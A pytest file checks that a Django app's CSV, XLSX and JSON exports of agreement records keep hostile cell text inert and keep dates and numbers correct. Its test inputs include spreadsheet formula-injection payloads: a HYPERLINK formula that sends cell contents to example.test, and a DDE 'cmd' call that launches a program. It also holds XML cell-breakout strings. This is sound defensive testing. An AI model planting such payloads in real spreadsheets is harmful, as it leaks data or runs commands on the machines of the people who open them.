"""CSV, XLSX and JSON: what a cell becomes, and what a hostile one does not."""

import datetime
import re
import zipfile
from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest
from django.http import QueryDict
from django.utils import translation
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from partnerships.exports import as_xlsx, query
from partnerships.exports.cells import harmless, plain
from partnerships.exports.extract import Refused
from partnerships.exports.files import make_file
from partnerships.exports.of_ledger import LedgerExtract
from partnerships.models import Agreement, Indicator, Organization, PartialDate, Party
from tests.factories import AgreementFactory, MeasurableFactory, OrganizationFactory, SourcedFactFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://example.test?x="&A1,"klik")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1+1",
    " =1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    "+62 812 0000",
    "'=1+1",
]
MARKUP = [
    "<r><t>tebal</t></r>",
    '<r></r></is></c><c r="Z1"><f>1+1</f></c><c r="Z2" t="inlineStr"><is><r></r>',
    "_x0041_",
    "]]>&amp;<b>",
]


def test_csv_is_what_excel_in_indonesia_opens(export, registrar, agreement_of_asahan):
    file = export("csv", registrar, "columns=title,signed")

    assert file.startswith(b"\xef\xbb\xbf")
    with translation.override("en"):
        english = export("csv", registrar, "columns=title,signed").decode("utf-8-sig")
    assert english.splitlines() == [
        "Reference;Paper;Signed",
        f"{agreement_of_asahan.ref};{agreement_of_asahan.title};2024-05-07",
    ]


@pytest.mark.parametrize(
    ("date", "written"),
    [
        (PartialDate.of(2025, 3, 20), "2025-03-20"),
        (PartialDate.of(2019, 8), "2019-08"),
        (PartialDate.of(2022), "2022"),
        (None, ""),
    ],
)
def test_csv_and_json_give_a_date_as_far_as_it_is_known(lines, document, registrar, date, written):
    AgreementFactory(signed=date)

    assert lines(registrar, "columns=signed")[1][1] == written
    assert document(registrar, "columns=signed")["rows"][0]["signed"] == (written or None)


@pytest.mark.parametrize("text", [*FORMULAS, *MARKUP])
def test_a_formula_is_a_text_in_every_file(lines, workbook, document, registrar, text):
    AgreementFactory(title=text)

    assert lines(registrar, "columns=title")[1][1] == harmless(text)
    cell = workbook(registrar, "columns=title").worksheets[0]["B2"]
    assert (unescape(cell.value), cell.data_type) == (text, "s")
    assert document(registrar, "columns=title")["rows"][0]["title"] == text


def test_no_workbook_holds_a_formula_or_a_link(export, registrar):
    for text in [*FORMULAS, *MARKUP, "http://example.test/", "mailto:a@example.test"]:
        AgreementFactory(title=text, place=text)

    with zipfile.ZipFile(BytesIO(export("xlsx", registrar, "columns=title,place"))) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/")]
        xml = "".join(parts.read(name).decode() for name in sheets)
        assert "<f>" not in xml
        assert "hyperlink" not in xml
        assert not [name for name in parts.namelist() if "rels" in name and "sheet" in name]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    texts=st.lists(
        st.text(
            alphabet=st.one_of(
                st.characters(codec="utf-8", exclude_characters="\x00"),
                st.sampled_from("=+-@＝＋－＠\t\r\n\x01\x0b\x1f;\"' <>&_x"),
            ),
            min_size=1,
            max_size=60,
        ),
        min_size=20,
        max_size=20,
    )
)
def test_any_text_comes_back_from_csv_and_xlsx(lines, workbook, registrar, texts):
    if Agreement.objects.count() < len(texts):
        AgreementFactory.create_batch(len(texts))
    stored = dict(zip(Agreement.objects.order_by("ref").values_list("pk", flat=True), texts, strict=True))
    for pk, text in stored.items():
        Agreement.objects.filter(pk=pk).update(title=text)
    expected = [plain(text) for text in texts]

    csv_cells = [line[1] for line in lines(registrar, "columns=title&sort=ref")[1:]]
    sheet = workbook(registrar, "columns=title&sort=ref").worksheets[0]
    xlsx_cells = [sheet.cell(row, 2) for row in range(2, len(texts) + 2)]

    assert csv_cells == [harmless(text) for text in expected]
    assert [unescape(cell.value or "") for cell in xlsx_cells] == expected
    assert {cell.data_type for cell in xlsx_cells if cell.value} <= {"s"}


def test_workbook_has_real_dates_and_numbers(workbook, registrar):
    AgreementFactory(ref="KS-2025-0001", signed=PartialDate.of(2025, 3, 20), represents=1250)
    agreement = AgreementFactory(ref="KS-2022-0001", signed=PartialDate.of(2022))
    SourcedFactFactory(agreement=agreement, in_force=False)

    sheet = workbook(registrar, "columns=signed,represents,conflicts").worksheets[0]

    assert [cell.value for cell in sheet[2]] == [
        "KS-2025-0001",
        datetime.datetime(2025, 3, 20),
        1250,
        0,
    ]
    assert [cell.value for cell in sheet[3]] == ["KS-2022-0001", "2022", 1, 1]
    assert [cell.data_type for cell in sheet[3]] == ["s", "s", "n", "n"]


def test_workbook_has_a_frozen_head_and_a_filter_over_all_rows(workbook, registrar):
    AgreementFactory.create_batch(3)

    sheet = workbook(registrar, "columns=title,signed").worksheets[0]

    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:C4"
    assert all(sheet.column_dimensions[column].width > 8 for column in "ABC")


def test_rows_that_come_in_batches_are_numbered_through(export, registrar, monkeypatch):
    """A program that believes the numbers and the extent of a sheet finds every row."""
    monkeypatch.setattr(query, "_LINES_AT_A_TIME", 2)
    AgreementFactory.create_batch(5)

    with zipfile.ZipFile(BytesIO(export("xlsx", registrar))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()

    rows = re.findall(r'<row r="(\d+)"[^>]*><c r="A(\d+)"', sheet)
    assert rows == [(str(number), str(number)) for number in range(1, 7)]
    assert '<dimension ref="A1:G6"/>' in sheet


def test_workbook_says_on_its_second_sheet_what_its_rows_are(workbook, registrar):
    AgreementFactory(kind="pks", represents=75)
    with translation.override("en"):
        sheet = workbook(registrar, "kind=pks").worksheets[1]

    said = {row[0].value: row[1].value for row in sheet.iter_rows()}
    assert sheet.title == "Filters"
    assert said["Kind of paper"] == "Cooperation agreement"
    assert said["Papers"] == 1
    assert said["These stand for"] == 75
    assert said["Data as of"].endswith(" WIB")
    assert said["Asked for by"] == f"{registrar.name}, {registrar.postings.get().organization.name}"


def test_a_text_longer_than_a_cell_of_excel_is_cut_and_says_so(workbook, registrar):
    agreement = AgreementFactory()
    partners = OrganizationFactory.build_batch(170, name="N" * 200)
    Organization.objects.bulk_create(partners)
    Party.objects.bulk_create(Party(agreement=agreement, organization=each) for each in partners)

    text = workbook(registrar, "columns=partner").worksheets[0]["B2"].value

    assert len(text) == 32_767
    assert text.endswith("NN…")


def test_json_has_code_names_and_says_what_it_holds(document, officer_asahan, agreement_of_asahan):
    with translation.override("en"):
        found = document(officer_asahan, "columns=partner,kind,represents")

    assert found["count"] == 1
    assert datetime.datetime.fromisoformat(found["as_of"]).utcoffset() == datetime.timedelta(hours=7)
    assert found["filters"] == ["What you see: Papers with a party of Kabupaten Asahan"]
    assert found["rows"] == [
        {
            "ref": agreement_of_asahan.ref,
            "partner": ["Pemerintah Kabupaten Asahan"],
            "kind": "Memorandum of understanding",
            "represents": 1,
        }
    ]


@pytest.mark.parametrize("form", ["csv", "xlsx", "json"])
def test_files_without_rows_are_whole(lines, workbook, document, registrar, form):
    read = {"csv": lines, "xlsx": workbook, "json": document}[form](registrar, "kind=nda&columns=title")

    rows = {
        "csv": lambda: read[1:],
        "xlsx": lambda: list(read.worksheets[0].iter_rows(min_row=2)),
        "json": lambda: read["rows"],
    }[form]()
    assert rows == []


def test_more_rows_than_a_sheet_holds_are_refused_with_a_sentence(workbook, lines, registrar, monkeypatch):
    """A sheet ends at its 1,048,576th row; what is beyond would be a file that no program opens."""
    monkeypatch.setattr(as_xlsx, "MOST_ROWS", 2)
    AgreementFactory.create_batch(3)

    with translation.override("en"), pytest.raises(Refused, match=r"at most 2 rows, and these are 3\."):
        workbook(registrar)
    assert len(lines(registrar)) == 4


def test_a_number_stays_one_whatever_stands_in_the_name_of_its_unit(registrar):
    # Some readers end a format at a semicolon, and take letters in what is left for parts of a date.
    promise = MeasurableFactory(target=Decimal("0.1"))
    Indicator.objects.filter(pk=promise.indicator_id).update(unit='hari;"dms\r\nh m')

    _name, file, _issued = make_file("xlsx", registrar, QueryDict("columns=target"), LedgerExtract)
    with file:
        sheet = openpyxl.load_workbook(BytesIO(file.read())).worksheets[0]
    assert [cell.value for row in sheet.iter_rows(min_row=2, min_col=3) for cell in row] == [0.1]
